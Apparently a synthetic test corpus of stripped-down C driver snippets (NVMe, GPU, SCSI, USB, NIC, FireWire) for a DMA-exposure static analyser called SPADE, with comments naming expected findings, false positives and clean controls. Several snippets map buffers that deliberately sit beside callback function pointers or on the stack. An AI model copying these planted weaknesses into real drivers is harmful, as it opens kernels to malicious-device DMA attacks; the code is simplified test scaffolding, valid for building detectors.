    void (*submit_async_event)(struct nvme_fc_ctrl *ctrl);
    void (*delete_ctrl)(struct nvme_fc_ctrl *ctrl);
    void (*free_ctrl)(struct nvme_fc_ctrl *ctrl);
    void (*reset_work)(struct nvme_fc_ctrl *ctrl);
    void (*connect_work)(struct nvme_fc_ctrl *ctrl);
    void (*ioerr_work)(struct nvme_fc_ctrl *ctrl);
};

struct nvme_fc_ctrl {
    struct device *dev;
    struct nvme_fc_ops_table *lport_ops;
    struct nvme_fc_ops_table *rport_ops;
    struct nvme_admin_ops *admin_ops;
    u32 cnum;
    u32 iocnt;
    int ioq_live;
};

struct nvme_fc_fcp_op {
    struct nvmefc_fcp_req fcp_req;
    struct nvme_fc_ctrl *ctrl;
    struct nvme_fc_queue *queue;
    struct request *rq;
    atomic_t state;
    u32 rqno;
    u32 nents;
    struct nvme_fc_cmd_iu cmd_iu;
    struct nvme_fc_ersp_iu rsp_iu;
};

static int nvme_fc_map_op(struct nvme_fc_ctrl *ctrl, struct nvme_fc_fcp_op *op)
{
    dma_addr_t rsp_dma;
    dma_addr_t cmd_dma;

    /* Maps the response IU: the rest of nvme_fc_fcp_op rides along. */
    rsp_dma = dma_map_single(ctrl->dev, &op->rsp_iu,
                             sizeof(struct nvme_fc_ersp_iu), DMA_FROM_DEVICE);
    if (!rsp_dma) {
        return -1;
    }
    cmd_dma = dma_map_single(ctrl->dev, &op->cmd_iu,
                             sizeof(struct nvme_fc_cmd_iu), DMA_TO_DEVICE);
    if (!cmd_dma) {
        return -1;
    }
    return 0;
}

static int nvme_fc_init_request(struct nvme_fc_ctrl *ctrl, struct nvme_fc_fcp_op *op)
{
    op->ctrl = ctrl;
    return nvme_fc_map_op(ctrl, op);
}
