/*
 * GPU driver: fence structures with interrupt callbacks embedded next to
 * command-submission indirect buffers (type (a)), and a GART-backed heap
 * path that stays clean.
 */

struct gpu_fence_ops {
    void (*fence_signaled)(struct gpu_fence *fence);
    void (*fence_timeout)(struct gpu_fence *fence);
};

struct gpu_fence {
    u64 seq;
    u32 ring_idx;
    struct gpu_fence_ops *ops;
};

struct gpu_ib {
    u8 packets[240];
    struct gpu_fence fence;
};

struct gpu_device {
    struct device *dev;
};

static int gpu_ib_schedule(struct gpu_device *adev, struct gpu_ib *ib)
{
    dma_addr_t gpu_addr;

    gpu_addr = dma_map_single(adev->dev, &ib->packets, 240, DMA_TO_DEVICE);
    if (!gpu_addr) {
        return -1;
    }
    return 0;
}

static int gpu_gart_bind(struct gpu_device *adev, u32 num_pages)
{
    void *pages;
    dma_addr_t addr;

    pages = kcalloc(num_pages, 4096, GFP_KERNEL);
    if (!pages) {
        return -1;
    }
    addr = dma_map_single(adev->dev, pages, num_pages * 4096, DMA_BIDIRECTIONAL);
    if (!addr) {
        return -1;
    }
    return 0;
}
