/*
 * SCSI HBA driver: sense buffer embedded in the command struct (type (a))
 * and per-command private data obtained via scsi_cmd_priv mapped for DMA.
 */

struct hba_io_ops {
    void (*io_done)(struct hba_cmd_priv *priv);
    void (*io_error)(struct hba_cmd_priv *priv, int code);
    void (*io_retry)(struct hba_cmd_priv *priv);
    void (*io_timeout)(struct hba_cmd_priv *priv);
};

struct hba_cmd_priv {
    u64 tag;
    u32 flags;
    struct hba_io_ops *ops;
    u8 sense_buffer[96];
    void (*scsi_done)(struct scsi_cmnd *cmd);
};

struct hba_adapter {
    struct device *dev;
    u32 host_no;
};

static int hba_map_sense(struct hba_adapter *hba, struct hba_cmd_priv *priv)
{
    dma_addr_t sense_dma;

    sense_dma = dma_map_single(hba->dev, &priv->sense_buffer, 96,
                               DMA_FROM_DEVICE);
    if (!sense_dma) {
        return -1;
    }
    return 0;
}

static int hba_queuecommand(struct hba_adapter *hba, struct scsi_cmnd *cmd)
{
    struct hba_cmd_priv *priv;
    dma_addr_t data_dma;

    priv = scsi_cmd_priv(cmd);
    data_dma = dma_map_single(hba->dev, priv, sizeof(struct hba_cmd_priv),
                              DMA_BIDIRECTIONAL);
    if (!data_dma) {
        return -1;
    }
    return hba_map_sense(hba, priv);
}
