/*
 * FC HBA driver with a page-spanning command context: the mapped IU sits in
 * a struct larger than 4 KiB, so SPADE's flag may be a false positive — the
 * callbacks could live on a page the device never sees (§4.3).
 */

struct lpfc_sge_array {
    u64 addr[256];
    u32 len[256];
    u32 flags[256];
};

struct lpfc_big_ctx {
    u8 rsp_iu[256];
    struct lpfc_sge_array sges;
    u32 state;
    void (*cmpl)(struct lpfc_big_ctx *ctx, int status);
};

struct lpfc_hba {
    struct device *dev;
};

static int lpfc_map_rsp(struct lpfc_hba *hba, struct lpfc_big_ctx *ctx)
{
    dma_addr_t rsp_dma;

    rsp_dma = dma_map_single(hba->dev, &ctx->rsp_iu, 256, DMA_FROM_DEVICE);
    if (!rsp_dma) {
        return -1;
    }
    return 0;
}
