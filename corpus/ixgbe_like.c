/*
 * ixgbe-style driver using dma_map_page on half pages plus a TX path mapping
 * skb->data: the common "page reuse" RX scheme.
 */

struct ixgbe_ring {
    struct device *dev;
    struct net_device *netdev;
    u16 count;
    u16 rx_buf_len;
};

static int ixgbe_alloc_mapped_page(struct ixgbe_ring *rx_ring)
{
    struct page *page;
    dma_addr_t dma;

    page = dev_alloc_pages(0);
    if (!page) {
        return -1;
    }
    dma = dma_map_page(rx_ring->dev, page, 0, 4096, DMA_FROM_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}

static int ixgbe_rx_skb(struct ixgbe_ring *rx_ring, u32 size)
{
    struct sk_buff *skb;
    dma_addr_t dma;

    skb = napi_alloc_skb(rx_ring->netdev, size);
    if (!skb) {
        return -1;
    }
    dma = dma_map_single(rx_ring->dev, skb->data, size, DMA_FROM_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}

static int ixgbe_xmit(struct ixgbe_ring *tx_ring, struct sk_buff *skb)
{
    dma_addr_t dma;

    dma = dma_map_single(tx_ring->dev, skb->data, skb->len, DMA_TO_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}
