/*
 * Wireless driver with a helper-function mapping path: the buffer is mapped
 * inside a helper that receives it as a parameter, so SPADE must trace the
 * callers to find the exposed struct (recursive backtracking, §4.1.1).
 */

struct wil_ctx_ops {
    void (*tx_done)(struct wil_tx_ctx *ctx);
    void (*tx_timeout)(struct wil_tx_ctx *ctx);
    void (*ring_reset)(struct wil_tx_ctx *ctx);
};

struct wil_tx_ctx {
    u32 nr_frags;
    struct wil_ctx_ops *ops;
    u8 hdr[64];
    u32 flags;
};

struct wil_dev {
    struct device *dev;
    u32 ring_size;
};

static dma_addr_t wil_map_buf(struct wil_dev *wil, void *buf, u32 len)
{
    dma_addr_t pa;

    pa = dma_map_single(wil->dev, buf, len, DMA_TO_DEVICE);
    return pa;
}

static int wil_tx_desc_map(struct wil_dev *wil, struct wil_tx_ctx *ctx)
{
    dma_addr_t pa;

    pa = wil_map_buf(wil, &ctx->hdr, 64);
    if (!pa) {
        return -1;
    }
    return 0;
}
