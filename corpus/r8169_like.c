/*
 * Realtek-style driver with a switch-driven descriptor path and a do-while
 * refill loop — exercises control-flow constructs around the map sites.
 */

struct rtl_ring {
    struct device *dev;
    struct net_device *netdev;
    u32 rx_buf_sz;
    u32 cur_rx;
};

static int rtl_rx_fill(struct rtl_ring *ring, int budget)
{
    struct sk_buff *skb;
    dma_addr_t mapping;
    int done;

    done = 0;
    do {
        skb = netdev_alloc_skb(ring->netdev, ring->rx_buf_sz);
        if (!skb) {
            return done;
        }
        mapping = dma_map_single(ring->dev, skb->data, ring->rx_buf_sz,
                                 DMA_FROM_DEVICE);
        if (!mapping) {
            return done;
        }
        done = done + 1;
    } while (done < budget);
    return done;
}

static int rtl_handle_event(struct rtl_ring *ring, int event, struct sk_buff *skb)
{
    dma_addr_t mapping;

    switch (event) {
    case 1:
        mapping = dma_map_single(ring->dev, skb->data, skb->len, DMA_TO_DEVICE);
        if (!mapping) {
            return -1;
        }
        break;
    case 2:
        ring->cur_rx = 0;
        break;
    default:
        return -1;
    }
    return 0;
}
