/*
 * FireWire OHCI controller: descriptor metadata (with completion callbacks)
 * embedded next to DMA-visible descriptor buffers (type (a)) — the driver
 * family Kupfer's single-step attacks exploited.
 */

struct fw_descriptor {
    u16 req_count;
    u16 control;
    u32 data_address;
    u32 branch_address;
    u16 res_count;
    u16 transfer_status;
};

struct ar_context {
    struct device *dev;
    struct fw_descriptor descriptor;
    void (*callback)(struct ar_context *ctx, int status);
    u32 regs;
    void *pointer;
};

static int ar_context_init(struct ar_context *ctx)
{
    dma_addr_t descriptor_bus;

    descriptor_bus = dma_map_single(ctx->dev, &ctx->descriptor,
                                    sizeof(struct fw_descriptor),
                                    DMA_BIDIRECTIONAL);
    if (!descriptor_bus) {
        return -1;
    }
    return 0;
}

static int ohci_enable(struct ar_context *ctx)
{
    void *config_rom;
    dma_addr_t config_rom_bus;

    config_rom = kmalloc(1024, GFP_KERNEL);
    if (!config_rom) {
        return -1;
    }
    config_rom_bus = dma_map_single(ctx->dev, config_rom, 1024, DMA_TO_DEVICE);
    if (!config_rom_bus) {
        return -1;
    }
    return 0;
}
