/*
 * Driver that maps a buffer produced by an indirect call through an ops
 * table. SPADE cannot follow function pointers (§4.3) — a deliberate
 * false-negative case.
 */

struct obscure_alloc_ops {
    void *(*get_buffer)(u32 len);
    void (*put_buffer)(void *buf);
};

struct obscure_dev {
    struct device *dev;
    struct obscure_alloc_ops *alloc_ops;
};

static int obscure_prepare_io(struct obscure_dev *od, u32 len)
{
    void *buf;
    dma_addr_t dma;

    buf = od->alloc_ops->get_buffer(len);
    if (!buf) {
        return -1;
    }
    dma = dma_map_single(od->dev, buf, len, DMA_FROM_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}
