/*
 * mlx5-style driver: napi_alloc_skb RX (type (b)+(c)), plus a completion
 * queue descriptor array mapped wholesale — exposing the CQ metadata struct
 * with its completion callbacks (type (a)).
 */

struct mlx5_cqe {
    u32 byte_cnt;
    u32 sop_drop_qpn;
    u16 wqe_counter;
    u8 signature;
    u8 op_own;
};

struct mlx5_core_cq {
    u32 cqn;
    int cqe_sz;
    struct mlx5_cqe buf[8];
    void (*comp)(struct mlx5_core_cq *cq);
    void (*event)(struct mlx5_core_cq *cq, int event);
    u32 cons_index;
    u16 irqn;
};

struct mlx5e_rq {
    struct device *dev;
    struct napi_struct *napi;
    struct mlx5_core_cq cq;
    u32 wqe_sz;
};

static int mlx5e_post_rx_wqes(struct mlx5e_rq *rq)
{
    struct sk_buff *skb;
    dma_addr_t addr;

    skb = napi_alloc_skb(rq->napi, rq->wqe_sz);
    if (!skb) {
        return -1;
    }
    addr = dma_map_single(rq->dev, skb->data, rq->wqe_sz, DMA_FROM_DEVICE);
    if (!addr) {
        return -1;
    }
    return 0;
}

static int mlx5e_map_cq(struct mlx5e_rq *rq)
{
    dma_addr_t addr;

    /* Maps the CQE array embedded in the CQ struct: comp/event callbacks
     * share the page. */
    addr = dma_map_single(rq->dev, &rq->cq.buf, sizeof(struct mlx5_cqe) * 8,
                          DMA_BIDIRECTIONAL);
    if (!addr) {
        return -1;
    }
    return 0;
}
