/*
 * Crypto accelerator driver: maps the request context obtained from
 * aead_request_ctx — private data co-resident with other request state.
 */

struct accel_dev {
    struct device *dev;
    u32 ring_id;
};

static int accel_aead_encrypt(struct accel_dev *accel, struct aead_request *req)
{
    void *ctx;
    dma_addr_t ctx_dma;

    ctx = aead_request_ctx(req);
    ctx_dma = dma_map_single(accel->dev, ctx, 256, DMA_BIDIRECTIONAL);
    if (!ctx_dma) {
        return -1;
    }
    return 0;
}

static int accel_skcipher(struct accel_dev *accel, struct skcipher_request *req)
{
    void *ctx;
    dma_addr_t ctx_dma;

    ctx = skcipher_request_ctx(req);
    ctx_dma = dma_map_single(accel->dev, ctx, 128, DMA_TO_DEVICE);
    if (!ctx_dma) {
        return -1;
    }
    return 0;
}
