/*
 * USB host controller driver: maps a setup packet that lives on the kernel
 * stack — one of the three stack-mapped cases SPADE found in Linux 5.0.
 */

struct usb_ctrlrequest {
    u8 bRequestType;
    u8 bRequest;
    u16 wValue;
    u16 wIndex;
    u16 wLength;
};

struct hcd_dev {
    struct device *dev;
    u32 bus_no;
};

static int hcd_submit_control(struct hcd_dev *hcd)
{
    struct usb_ctrlrequest setup;
    dma_addr_t setup_dma;

    setup.bRequestType = 128;
    setup.bRequest = 6;
    setup_dma = dma_map_single(hcd->dev, &setup, sizeof(struct usb_ctrlrequest),
                               DMA_TO_DEVICE);
    if (!setup_dma) {
        return -1;
    }
    return 0;
}

static int hcd_poll_status(struct hcd_dev *hcd)
{
    u8 status_buf[8];
    dma_addr_t status_dma;

    status_dma = dma_map_single(hcd->dev, &status_buf[0], 8, DMA_FROM_DEVICE);
    if (!status_dma) {
        return -1;
    }
    return 0;
}
