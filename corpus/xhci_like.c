/*
 * xHCI-style USB3 host controller: transfer-ring segments embedded in a ring
 * struct that also carries completion callbacks (type (a)), plus a typical
 * control-transfer stack mapping.
 */

struct xhci_trb {
    u64 buffer;
    u32 status;
    u32 control;
};

struct xhci_ring_ops {
    void (*complete)(struct xhci_ring *ring, struct xhci_trb *trb);
    void (*stall)(struct xhci_ring *ring);
    void (*reset)(struct xhci_ring *ring);
};

struct xhci_ring {
    struct xhci_trb trbs[16];
    u32 enq;
    u32 deq;
    struct xhci_ring_ops *ops;
    void (*doorbell)(struct xhci_ring *ring);
};

struct xhci_hcd {
    struct device *dev;
};

static int xhci_ring_alloc(struct xhci_hcd *xhci, struct xhci_ring *ring)
{
    dma_addr_t dma;

    dma = dma_map_single(xhci->dev, &ring->trbs, sizeof(struct xhci_trb) * 16,
                         DMA_BIDIRECTIONAL);
    if (!dma) {
        return -1;
    }
    return 0;
}

static int xhci_control_transfer(struct xhci_hcd *xhci)
{
    u8 setup_pkt[8];
    dma_addr_t dma;

    dma = dma_map_single(xhci->dev, &setup_pkt[0], 8, DMA_TO_DEVICE);
    if (!dma) {
        return -1;
    }
    return 0;
}
