/*
 * Clean driver #2: AHCI-style command tables in dedicated heap pages.
 */

struct ahci_port {
    struct device *dev;
    u32 port_no;
};

static int ahci_port_start(struct ahci_port *port)
{
    void *cmd_table;
    dma_addr_t cmd_dma;

    cmd_table = kzalloc(4096, GFP_KERNEL);
    if (!cmd_table) {
        return -1;
    }
    cmd_dma = dma_map_single(port->dev, cmd_table, 4096, DMA_BIDIRECTIONAL);
    if (!cmd_dma) {
        return -1;
    }
    return 0;
}

static int ahci_fill_rx(struct ahci_port *port, u32 len)
{
    void *rx_fis;
    dma_addr_t fis_dma;

    rx_fis = kmalloc(len, GFP_KERNEL);
    if (!rx_fis) {
        return -1;
    }
    fis_dma = dma_map_single(port->dev, rx_fis, len, DMA_FROM_DEVICE);
    if (!fis_dma) {
        return -1;
    }
    return 0;
}
