/*
 * bnx2-style driver: correct unmap ordering (invisible to static analysis)
 * but still exposed through the OS design — page_frag RX buffers wrapped by
 * build_skb (§9: "even well-written drivers can be subverted by the OS").
 */

struct bnx2_rx_ring_info {
    struct device *dev;
    u32 rx_buf_use_size;
    u32 rx_ring_size;
};

static int bnx2_alloc_rx_data(struct bnx2_rx_ring_info *rxr)
{
    void *data;
    dma_addr_t mapping;

    data = napi_alloc_frag(rxr->rx_buf_use_size);
    if (!data) {
        return -1;
    }
    mapping = dma_map_single(rxr->dev, data, rxr->rx_buf_use_size,
                             DMA_FROM_DEVICE);
    if (!mapping) {
        return -1;
    }
    return 0;
}

static struct sk_buff *bnx2_rx_skb(struct bnx2_rx_ring_info *rxr, void *data,
                                   u32 len)
{
    struct sk_buff *skb;

    skb = build_skb(data, rxr->rx_buf_use_size);
    return skb;
}

static int bnx2_start_xmit(struct bnx2_rx_ring_info *txr, struct sk_buff *skb)
{
    dma_addr_t mapping;

    mapping = dma_map_single(txr->dev, skb->data, skb->len, DMA_TO_DEVICE);
    if (!mapping) {
        return -1;
    }
    return 0;
}
