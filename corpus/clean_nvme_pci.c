/*
 * Clean driver #1: PRP lists and data buffers are dedicated kmalloc
 * allocations; nothing sensitive is knowingly co-located (the residual
 * type (d) risk is dynamic and invisible to static analysis — D-KASAN's
 * territory).
 */

struct nvme_pci_queue {
    struct device *dev;
    u32 depth;
    u32 qid;
};

static int nvme_pci_setup_prps(struct nvme_pci_queue *nvmeq, u32 size)
{
    void *prp_list;
    dma_addr_t prp_dma;

    prp_list = kmalloc(4096, GFP_KERNEL);
    if (!prp_list) {
        return -1;
    }
    prp_dma = dma_map_single(nvmeq->dev, prp_list, 4096, DMA_TO_DEVICE);
    if (!prp_dma) {
        return -1;
    }
    return 0;
}

static int nvme_pci_map_data(struct nvme_pci_queue *nvmeq, u32 len)
{
    void *data;
    dma_addr_t data_dma;

    data = kzalloc(len, GFP_KERNEL);
    if (!data) {
        return -1;
    }
    data_dma = dma_map_single(nvmeq->dev, data, len, DMA_BIDIRECTIONAL);
    if (!data_dma) {
        return -1;
    }
    return 0;
}
